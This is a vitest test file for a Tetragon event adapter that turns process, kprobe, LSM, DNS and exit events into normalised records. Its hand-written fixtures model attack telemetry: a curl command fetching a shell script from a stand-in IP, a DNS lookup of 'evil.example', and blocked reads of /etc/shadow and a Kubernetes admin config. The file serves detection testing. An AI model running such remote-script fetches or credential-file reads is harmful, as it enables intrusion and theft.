import { describe, expect, it } from "vitest";
import { adaptTetragon } from "./tetragon";
import type { NormalizedEvent } from "./types";
import { adaptOne, expectWellFormed, readCorpus } from "../../test-support/corpus";

const corpus = readCorpus("tetragon", ["docs", "files"]);

function one(item: unknown): NormalizedEvent {
  return adaptOne(adaptTetragon, item);
}

function fromCorpus(file: string, index = 0): NormalizedEvent {
  const found = corpus.find((c) => c.file === file && c.index === index);
  if (!found) throw new Error(`corpus item ${file}#${index} not found`);
  return one(found.item);
}

describe("adaptTetragon — corpus", () => {
  it("loads all 58 files / 68 events listed in SOURCES.md", () => {
    expect(new Set(corpus.map((c) => c.file)).size).toBe(58);
    expect(corpus).toHaveLength(68);
  });

  it.each(corpus.map((c) => [`${c.file}#${c.index}`, c.item] as const))("accepts %s", (_name, item) => {
    expectWellFormed(one(item));
  });

  it("maps a pod process_exec, falling back to start_time when the envelope has no time", () => {
    const e = fromCorpus("files/testdata__events.jsonl", 0);
    expect(e).toMatchObject({
      kind: "infos",
      type: "process_exec",
      severity: "low",
      occurredAt: "2022-10-18T03:16:18.273Z",
      agent: {
        hostname: "my-node",
        node: "my-node",
        namespace: "default",
        pod: "tiefighter",
        container: "spaceship",
        image: "docker.io/tgraf/netperf:latest",
      },
      process: { exe: "/usr/bin/netserver", comm: "netserver", args: "/usr/bin/netserver -D", pid: 68790, ppid: 68598, uid: 0 },
      parent: { exe: "/usr/bin/containerd-shim-runc-v2", pid: 68598 },
    });
    expect(e.ancestors?.[0]).toEqual(e.parent);
    expect(e.flags).toContain("container");
  });

  it("maps a legacy process_connect to a flow with the remote address", () => {
    const e = fromCorpus("files/00_four_golden_signals_process_connect.json");
    expect(e).toMatchObject({
      kind: "flows",
      type: "process_connect",
      severity: "low",
      occurredAt: "2022-01-19T16:29:02.021Z",
      agent: { node: "minikube", namespace: "tenant-jobs", pod: "elasticsearch-56f8fc6988-pb8c7", container: "elasticsearch" },
      process: { exe: "/usr/bin/curl", args: "/usr/bin/curl www.google.com", pid: 115153 },
      flow: {
        protocol: "TCP",
        ipVersion: 4,
        local: { address: "10.88.0.7", port: 49168 },
        remote: { address: "142.250.180.196", port: 80 },
        direction: "egress",
      },
    });
  });

  it("marks process_close as ended and process_listen as a local endpoint", () => {
    expect(fromCorpus("files/00_process_lifecycle_nc_process_close.json").flow).toMatchObject({
      status: "ended",
      remote: { address: "64.225.45.153", port: 443 },
    });
    expect(fromCorpus("files/00_four_golden_signals_process_listen.json").flow).toEqual({
      protocol: "TCP",
      ipVersion: 4,
      local: { address: "0.0.0.0", port: 9080 },
      status: "listening",
    });
  });

  it("turns a policy kprobe on security_file_permission into a medium detection with file.path", () => {
    const e = fromCorpus("docs/use-cases_filename-access.md@c2be10915b.jsonl");
    expect(e).toMatchObject({
      kind: "detections",
      type: "kprobe_security_file_permission",
      severity: "medium",
      policyName: "file-monitoring",
      action: "audit",
      outcome: "success",
      file: { path: "/etc/passwd", operation: "write" },
      agent: { node: "tetragon-dev-control-plane", pod: "file-access", namespace: "default" },
    });
    expect(e.flags ?? []).not.toContain("blocked");
  });

  it("keeps a policy-less kprobe as a low info, with the path from file_arg", () => {
    const e = fromCorpus("files/00_process_lifecycle_cat_process_kprobe.json");
    expect(e).toMatchObject({ kind: "infos", type: "kprobe_x64_sys_read", severity: "low", file: { operation: "read" } });
  });

  it("maps process_exit and reads a failed call's return value", () => {
    expect(fromCorpus("files/00_process_lifecycle_nc_process_exit.json")).toMatchObject({
      kind: "infos",
      type: "process_exit",
      severity: "low",
      outcome: "success",
    });
    expect(fromCorpus("docs/use-cases_security-profiles_record-linux-capabilities.md@c0d8c2a981.jsonl").outcome).toBe("failure");
  });

  it("accepts process_throttle as an agent info without a process", () => {
    const e = fromCorpus("docs/concepts_cgroup-rate.md@e730d97df0.jsonl");
    expect(e).toMatchObject({ kind: "infos", type: "process_throttle", severity: "low", agent: { node: "ubuntu-22" } });
    expect(e.title).toContain("THROTTLE_START");
    expect(e.process).toBeUndefined();
  });

  it("uses the docker id as container when there is no pod", () => {
    const e = fromCorpus("files/03_security_observability_events_02_persistance_merlin-agent-go-connect.json");
    expect(e.agent.container).toBe("a51959123c3ba99a9f50a700");
    expect(e.flow?.remote).toEqual({ address: "34.116.205.187", port: 443 });
  });
});

// ---------- hand-written events, shaped like Tetragon's JSON export ----------

const POD = {
  namespace: "shop",
  name: "checkout-7d9f8b6c5-x2x4q",
  container: {
    id: "containerd://4c1f0e2a", name: "checkout", start_time: "2025-03-01T10:00:00Z", pid: 1,
    image: { id: "ghcr.io/acme/checkout@sha256:abc", name: "ghcr.io/acme/checkout:1.4.2" },
  },
  pod_labels: { app: "checkout" },
  workload: "checkout",
  workload_kind: "Deployment",
};

const CURL = {
  exec_id: "ZXhlYy1jdXJs", pid: 4242, uid: 1000, cwd: "/app", binary: "/usr/bin/curl",
  arguments: "-s http://198.51.100.7:8080/x.sh", flags: "execve clone", start_time: "2025-03-01T10:05:00.100Z",
  auid: 4294967295, pod: POD, docker: "4c1f0e2a", parent_exec_id: "ZXhlYy1zaA==", in_init_tree: false,
};
const SH = { exec_id: "ZXhlYy1zaA==", pid: 4200, uid: 1000, binary: "/bin/sh", arguments: "-c curl", parent_exec_id: "cnVuYw==" };
const RUNC = { exec_id: "cnVuYw==", pid: 4100, uid: 0, binary: "/usr/bin/runc", parent_exec_id: "c2hpbQ==" };
const SHIM = { exec_id: "c2hpbQ==", pid: 4000, uid: 0, binary: "/usr/bin/containerd-shim-runc-v2" };

const ENVELOPE = { node_name: "worker-2", cluster_name: "prod-eu", time: "2025-03-01T10:05:01.000000123Z" };

describe("adaptTetragon — hand-written events", () => {
  it("maps process_exec with ancestors nearest-first, parent included", () => {
    const e = one({ process_exec: { process: CURL, parent: SH, ancestors: [RUNC, SHIM] }, ...ENVELOPE });
    expect(e.agent).toEqual({
      hostname: "worker-2",
      node: "worker-2",
      cluster: "prod-eu",
      namespace: "shop",
      pod: "checkout-7d9f8b6c5-x2x4q",
      container: "checkout",
      image: "ghcr.io/acme/checkout:1.4.2",
    });
    expect(e.process).toEqual({
      exe: "/usr/bin/curl",
      comm: "curl",
      args: "/usr/bin/curl -s http://198.51.100.7:8080/x.sh",
      pid: 4242,
      ppid: 4200,
      uid: 1000,
      start: "2025-03-01T10:05:00.100Z",
    });
    expect(e.ancestors?.map((a) => [a.comm, a.pid, a.ppid])).toEqual([
      ["sh", 4200, 4100],
      ["runc", 4100, 4000],
      ["containerd-shim-runc-v2", 4000, undefined],
    ]);
    expect(e.parent).toEqual(e.ancestors?.[0]);
    expect(e.flags).toEqual(["container", "not_in_init_tree"]);
  });

  it("does not repeat the parent when an export already lists it among ancestors", () => {
    const e = one({ process_exec: { process: CURL, parent: SH, ancestors: [SH, RUNC] }, ...ENVELOPE });
    expect(e.ancestors?.map((a) => a.pid)).toEqual([4200, 4100]);
  });

  it("maps a tcp_connect kprobe to a flow from sock_arg", () => {
    const e = one({
      process_kprobe: {
        process: CURL,
        parent: SH,
        function_name: "tcp_connect",
        args: [
          {
            sock_arg: {
              family: "AF_INET", type: "SOCK_STREAM", protocol: "IPPROTO_TCP", state: "TCP_SYN_SENT",
              saddr: "10.0.3.17", daddr: "198.51.100.7", sport: 51234, dport: 8080,
            },
          },
        ],
        action: "KPROBE_ACTION_POST",
        policy_name: "monitor-network",
        tags: ["network", "egress"],
      },
      ...ENVELOPE,
    });
    expect(e).toMatchObject({
      kind: "flows",
      type: "kprobe_tcp_connect",
      severity: "medium",
      policyName: "monitor-network",
      action: "audit",
      flow: {
        protocol: "TCP",
        ipVersion: 4,
        local: { address: "10.0.3.17", port: 51234 },
        remote: { address: "198.51.100.7", port: 8080 },
        direction: "egress",
      },
    });
    expect(e.flags).toEqual(expect.arrayContaining(["network", "egress", "container"]));
    expect(e.title).toContain("198.51.100.7:8080");
  });

  it("takes the peer from sockaddr_arg on a connect syscall", () => {
    const e = one({
      process_kprobe: {
        process: CURL,
        function_name: "__sys_connect",
        args: [{ int_arg: 3 }, { sockaddr_arg: { family: "AF_INET6", addr: "2001:db8::5", port: 443 } }],
        action: "KPROBE_ACTION_POST",
      },
      ...ENVELOPE,
    });
    expect(e.flow).toEqual({ ipVersion: 6, remote: { address: "2001:db8::5", port: 443 }, direction: "egress" });
  });

  it("turns a Sigkill enforcement on fd_install into a high, blocked detection", () => {
    const e = one({
      process_kprobe: {
        process: CURL,
        parent: SH,
        function_name: "fd_install",
        args: [{ int_arg: 3 }, { file_arg: { path: "/etc/shadow", flags: "" } }],
        action: "KPROBE_ACTION_SIGKILL",
        policy_name: "block-shadow",
        message: "shadow file opened",
      },
      ...ENVELOPE,
    });
    expect(e).toMatchObject({
      kind: "detections",
      type: "kprobe_fd_install",
      severity: "high",
      title: "shadow file opened",
      action: "kill",
      outcome: "killed",
      policyName: "block-shadow",
      file: { path: "/etc/shadow", operation: "open" },
    });
    expect(e.flags).toContain("blocked");
  });

  it("treats Override (also as a numeric enum) and NotifyEnforcer as blocking", () => {
    const override = one({
      process_lsm: {
        process: CURL,
        function_name: "file_open",
        args: [{ file_arg: { path: "/etc/kubernetes/admin.conf" } }],
        action: 5,
        policy_name: "lsm-protect",
      },
      ...ENVELOPE,
    });
    expect(override).toMatchObject({ kind: "detections", type: "lsm_file_open", severity: "high", action: "block", outcome: "denied" });
    const notify = one({
      process_kprobe: { process: CURL, function_name: "security_bprm_check", action: "KPROBE_ACTION_NOTIFYENFORCER" },
      ...ENVELOPE,
    });
    expect(notify).toMatchObject({ kind: "detections", severity: "high", action: "block" });
    expect(notify.flags).toContain("blocked");
  });

  it("reads file operations from the MAY_* mask and rename targets", () => {
    const read = one({
      process_kprobe: {
        process: CURL,
        function_name: "security_file_permission",
        args: [{ file_arg: { path: "/etc/hosts" } }, { int_arg: 4 }],
        policy_name: "p",
      },
      ...ENVELOPE,
    });
    expect(read.file).toEqual({ path: "/etc/hosts", operation: "read" });
    const rename = one({
      process_kprobe: {
        process: CURL,
        function_name: "security_path_rename",
        args: [{ path_arg: { path: "/tmp/a" } }, { path_arg: { path: "/usr/bin/a" } }],
      },
      ...ENVELOPE,
    });
    expect(rename.file).toEqual({ path: "/tmp/a", operation: "rename", targetPath: "/usr/bin/a" });
  });

  it("names tracepoint and uprobe types after their hook", () => {
    const tp = one({
      process_tracepoint: { process: CURL, subsys: "raw_syscalls", event: "sys_enter", args: [{ long_arg: 59 }] },
      ...ENVELOPE,
    });
    expect(tp.type).toBe("tracepoint_raw_syscalls_sys_enter");
    const up = one({ process_uprobe: { process: SH, path: "/bin/bash", symbol: "readline", policy_name: "bash" }, ...ENVELOPE });
    expect(up).toMatchObject({ type: "uprobe_readline", kind: "detections", severity: "medium" });
  });

  it("maps an exit by signal", () => {
    const e = one({ process_exit: { process: CURL, parent: SH, signal: "SIGKILL", time: "2025-03-01T10:05:02Z" } });
    expect(e).toMatchObject({ type: "process_exit", outcome: "killed", occurredAt: "2025-03-01T10:05:02.000Z" });
    expect(e.title).toContain("SIGKILL");
  });

  it("accepts rate_limit_info as an info", () => {
    const e = one({ rate_limit_info: { number_of_dropped_process_events: "1523" }, ...ENVELOPE });
    expect(e).toMatchObject({ kind: "infos", type: "rate_limit_info", severity: "low", agent: { node: "worker-2" } });
    expect(e.title).toContain("1523");
  });

  it("maps process_dns to the Garnet-ordered DNS chain", () => {
    const e = one({
      process_dns: {
        process: CURL,
        dns: { query: "evil.example.", names: ["evil.example.", "cdn.example.net."], ips: ["203.0.113.9"] },
      },
      ...ENVELOPE,
    });
    expect(e).toMatchObject({ kind: "flows", type: "process_dns", domain: "evil.example" });
    expect(e.dnsNames).toEqual(["203.0.113.9", "cdn.example.net", "evil.example"]);
  });
});

// ---------- unusable input ----------

describe("adaptTetragon — bad input", () => {
  it.each([
    ["null", null],
    ["undefined", undefined],
    ["an array", [{ process_exec: { process: CURL }, time: ENVELOPE.time }]],
    ["a number", 42],
    ["a string", "process_exec"],
    ["an empty object", {}],
    ["an envelope without event", { node_name: "n", time: ENVELOPE.time }],
  ])("rejects %s", (_name, item) => {
    const r = adaptTetragon(item);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(/tetragon: .*(object|event field)/);
  });

  it.each([
    ["event is null", { process_exec: null, time: ENVELOPE.time }, /event field/],
    ["event is a string", { process_kprobe: "x", time: ENVELOPE.time }, /event field/],
    ["process is missing", { process_kprobe: { function_name: "tcp_connect" }, time: ENVELOPE.time }, /process_kprobe\.process/],
    ["process is an array", { process_exec: { process: [CURL] }, time: ENVELOPE.time }, /process_exec\.process/],
    ["time is missing", { process_kprobe: { process: CURL } }, /time/],
    ["time is not a date", { process_exit: { process: CURL }, time: "yesterday" }, /time/],
    ["time is a boolean", { process_throttle: { type: "THROTTLE_START" }, time: true }, /time/],
  ])("rejects an item whose %s, naming the field", (_name, item, message) => {
    const r = adaptTetragon(item);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(message);
  });

  it("survives wrong types anywhere inside a valid event", () => {
    const base = { process_kprobe: { process: CURL, parent: SH, function_name: "tcp_connect", args: [{ sock_arg: {} }] }, ...ENVELOPE };
    const odd: unknown[] = [null, 7, -1.5, "", "x", true, [], {}, [null, 3]];
    const paths: string[][] = [
      ["node_name"], ["cluster_name"],
      ["process_kprobe", "parent"], ["process_kprobe", "ancestors"], ["process_kprobe", "function_name"],
      ["process_kprobe", "args"], ["process_kprobe", "return"], ["process_kprobe", "action"], ["process_kprobe", "tags"],
      ["process_kprobe", "policy_name"], ["process_kprobe", "process", "pid"], ["process_kprobe", "process", "pod"],
      ["process_kprobe", "process", "binary"], ["process_kprobe", "process", "start_time"],
    ];
    for (const p of paths) {
      for (const value of odd) {
        const item = structuredClone(base) as Record<string, unknown>;
        let cur = item;
        for (const k of p.slice(0, -1)) cur = cur[k] as Record<string, unknown>;
        cur[p[p.length - 1]] = value;
        const r = adaptTetragon(item);
        expect(r.ok, `${p.join(".")} = ${JSON.stringify(value)}`).toBe(true);
      }
    }
  });
});
